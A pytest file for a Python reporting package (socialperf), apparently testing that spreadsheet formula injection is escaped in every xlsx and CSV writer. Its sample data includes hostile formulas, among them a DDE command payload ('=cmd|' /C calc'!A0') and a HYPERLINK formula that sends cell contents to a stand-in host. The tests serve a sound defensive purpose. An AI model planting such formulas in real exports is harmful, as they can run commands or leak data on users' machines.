"""Spreadsheet formula injection (CWE-1236, OWASP "CSV injection") through every writer.

Ids, names and values that begin with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
must reach ``report.xlsx`` as text cells (openpyxl data type ``"s"``, never ``"f"``) with the
visible value unchanged, and ``tables/*.csv`` with a leading apostrophe (OWASP's advice)
unless raw CSV is asked for. Numbers stay numbers; the Python objects stay exact.
"""

from __future__ import annotations

import csv

import openpyxl
import pandas as pd
import pytest

from socialperf.cli import main
from socialperf.report import Report

RISKY = ("=", "+", "-", "@", "\t", "\r")

#: One string per character that makes a spreadsheet treat a cell as a formula.
FORMULAS = (
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
)


def _hostile_frame() -> pd.DataFrame:
    index = pd.Index(list(FORMULAS), name="=unit")
    return pd.DataFrame(
        {
            "=score": [0.5, -1.25, 2.0, -0.0, 1e-9, -3.0, 7.0, 8.0],
            "name": [f"{f} name" for f in FORMULAS],
            "+count": [1, -2, 3, 4, 5, 6, 7, 8],
            "peers": [[f, "B"] for f in FORMULAS],
            "plain": ["a=1", "b+2", "x", "", "y", "z", "Ubuntu-1", "q"],
        },
        index=index,
    )


def _cells(path):
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from ((ws.title, c) for c in row)


def _csv_cells(folder):
    for path in sorted((folder / "tables").glob("*.csv")):
        with path.open(newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                yield from ((path.name, c) for c in row)


def _is_number(text: str) -> bool:
    """A CSV cell that is a plain number (a negative number is not a formula)."""
    if text != text.strip():
        return False
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_prefixes_are_owasp_list():
    from socialperf.safety import FORMULA_PREFIXES

    assert set(FORMULA_PREFIXES) == set(RISKY)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        ("", ""),
        ("'=1", "'=1"),  # already text for a spreadsheet: unchanged
        (-1.5, -1.5),
        (3, 3),
        (None, None),
    ],
)
def test_escape_formula_hand_cases(value, expected):
    from socialperf.safety import escape_formula

    assert escape_formula(value) == expected


def test_xlsx_has_no_formula_cell_and_keeps_values(tmp_path):
    frame = _hostile_frame()
    rep = Report("=1+2")
    rep.section("=sec").table("=t", frame, caption="=caption")
    files = rep.write(tmp_path / "out")
    cells = list(_cells(files.excel))
    assert cells
    assert [(s, c.coordinate) for s, c in cells if c.data_type == "f"] == []
    values = {c.value for _, c in cells}
    for f in FORMULAS:  # index labels, as shown (XML reads a CR as LF, openpyxl too)
        assert f.replace("\r", "\n") in values
        assert f"{f} name".replace("\r", "\n") in values
    assert {"=unit", "=score", "+count"} <= values  # headers, as shown
    ws = openpyxl.load_workbook(files.excel).worksheets[0]
    header = [c.value for c in ws[1]]
    col = header.index("=score") + 1
    scores = [ws.cell(row=r, column=col) for r in range(2, 2 + len(frame))]
    assert [c.value for c in scores] == pytest.approx(list(frame["=score"]))
    assert all(c.data_type == "n" for c in scores)
    count = header.index("+count") + 1
    assert [ws.cell(row=r, column=count).value for r in range(2, 10)] == list(frame["+count"])
    # risky text is marked as text for Excel too, so editing the cell does not evaluate it
    risky = [c for _, c in cells if isinstance(c.value, str) and c.value[:1] in RISKY]
    assert risky and all(c.quotePrefix for c in risky)
    plain = [c for _, c in cells if c.value in ("a=1", "x")]
    assert plain and not any(c.quotePrefix for c in plain)


def test_csv_escapes_by_default_and_keeps_numbers(tmp_path):
    frame = _hostile_frame()
    rep = Report("r")
    rep.table("t", frame)
    rep.write(tmp_path / "out")
    cells = list(_csv_cells(tmp_path / "out"))
    raw = [(f, c) for f, c in cells if c[:1] in RISKY and not _is_number(c)]
    assert raw == []
    texts = {c for _, c in cells}
    for f in FORMULAS:
        assert "'" + f in texts
    assert "'=score" in texts and "'+count" in texts and "'=unit" in texts
    back = pd.read_csv(tmp_path / "out" / "tables" / "t.csv", index_col=0)
    assert list(back["'=score"]) == pytest.approx(list(frame["=score"]))
    assert list(back["'+count"]) == [1, -2, 3, 4, 5, 6, 7, 8]  # negative numbers untouched
    assert list(back["plain"].fillna("")) == list(frame["plain"])


def test_raw_csv_round_trips_exactly(tmp_path):
    frame = _hostile_frame().drop(columns="peers")
    rep = Report("r")
    rep.table("t", frame)
    rep.write(tmp_path / "out", raw_csv=True)
    back = pd.read_csv(tmp_path / "out" / "tables" / "t.csv", index_col=0, keep_default_na=False)
    assert list(back.index) == list(frame.index)
    assert list(back.columns) == list(frame.columns)
    assert list(back["name"]) == list(frame["name"])
    assert list(back["=score"]) == pytest.approx(list(frame["=score"]))


def test_python_tables_stay_exact(tmp_path):
    frame = _hostile_frame()
    before = frame.copy()
    rep = Report("r")
    rep.table("t", frame)
    rep.write(tmp_path / "out")
    pd.testing.assert_frame_equal(frame, before)  # the user's frame is not mutated
    pd.testing.assert_frame_equal(rep.tables["t"], before)


def test_study_report_xlsx_has_no_formula(hostile_report):
    wb = openpyxl.load_workbook(hostile_report / "report.xlsx")
    formulas = [
        (ws.title, c.coordinate)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    assert formulas == []
    for sheet in ("miv_index", "miv_coverage", "miv_details", "miv_profile", "mfi_scores"):
        ws = wb[sheet]
        ids = [ws.cell(row=r, column=1).value for r in range(2, ws.max_row + 1)]
        assert ids and all(str(v).startswith("=") for v in ids), sheet
    assert "=MIV01" in [c.value for c in wb["miv_index"]["A"]]


def test_study_report_csv_escaped(hostile_report):
    cells = list(_csv_cells(hostile_report))
    assert cells
    assert [(f, c) for f, c in cells if c[:1] in RISKY and not _is_number(c)] == []
    assert "'=MIV01" in {c for _, c in cells}


def test_cli_run_raw_csv_writes_raw_ids(hostile_study, tmp_path):
    out = tmp_path / "raw"
    assert main(["run", str(hostile_study), "--out", str(out), "--raw-csv"]) == 0
    back = pd.read_csv(out / "tables" / "miv_index.csv", index_col=0)
    assert "=MIV01" in back.index
    wb = openpyxl.load_workbook(out / "report.xlsx")  # xlsx is text whatever the CSV option
    assert not any(
        c.data_type == "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row
    )


def _dea_units(tmp_path):
    path = tmp_path / "units.csv"
    pd.DataFrame({"id": ["=A", "@B", "+C"], "x": [2.0, 4.0, 4.0], "y": [2.0, 6.0, 3.0]}).to_csv(
        path, index=False
    )
    return path


def test_cli_dea_out_escaped(tmp_path, capsys):
    path = _dea_units(tmp_path)
    out = tmp_path / "scores.csv"
    code = main(
        ["dea", str(path), "--inputs", "x", "--outputs", "y", "--rts", "crs", "--out", str(out)]
    )
    capsys.readouterr()
    assert code == 0
    with out.open(newline="") as fh:
        rows = list(csv.reader(fh))
    assert [r[0] for r in rows[1:]] == ["'=A", "'@B", "'+C"]
    peers = [r[-1] for r in rows[1:]]
    assert peers == ["'@B", "'@B", "'@B"]
    assert float(rows[2][1]) == pytest.approx(1.0)


def test_cli_dea_out_raw(tmp_path, capsys):
    path = _dea_units(tmp_path)
    out = tmp_path / "scores.csv"
    code = main(
        [
            "dea",
            str(path),
            "--inputs",
            "x",
            "--outputs",
            "y",
            "--rts",
            "crs",
            "--out",
            str(out),
            "--raw-csv",
        ]
    )
    capsys.readouterr()
    assert code == 0
    back = pd.read_csv(out, index_col=0)
    assert list(back.index) == ["=A", "@B", "+C"]
    assert back.loc["=A", "score"] == pytest.approx(2 / 3, rel=1e-6)


def test_xlsx_control_characters_do_not_break_the_workbook(tmp_path):
    """XML cannot hold most C0 controls; they become U+FFFD in the xlsx only."""
    frame = pd.DataFrame({"name\x01": ["\x0b=1+2", "ok"], "n": [1, 2]}, index=["\x00A", "B"])
    files = Report("r").table("t", frame).write(tmp_path / "out")
    ws = openpyxl.load_workbook(files.excel).worksheets[0]
    rows = [[c.value for c in row] for row in ws.iter_rows()]
    assert rows == [[None, "name\ufffd", "n"], ["\ufffdA", "\ufffd=1+2", 1], ["B", "ok", 2]]
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    back = pd.read_csv(files.tables["t"], index_col=0)
    assert list(back.index) == ["\x00A", "B"]


def test_csv_escapes_categorical_and_multiindex_text(tmp_path):
    frame = pd.DataFrame(
        {("=grp", "-a"): pd.Categorical(["=x", "y"]), ("=grp", 2): [1.0, -2.0]},
        index=pd.MultiIndex.from_tuples([("=k", 1), ("k", 2)], names=["@i", "j"]),
    )
    Report("r").table("t", frame).write(tmp_path / "out")
    with (tmp_path / "out" / "tables" / "t.csv").open(newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert [c for c in cells if c[:1] in RISKY and not _is_number(c)] == []
    assert {"'=x", "'=k", "'@i", "'=grp", "'-a", "-2.0"} <= set(cells)
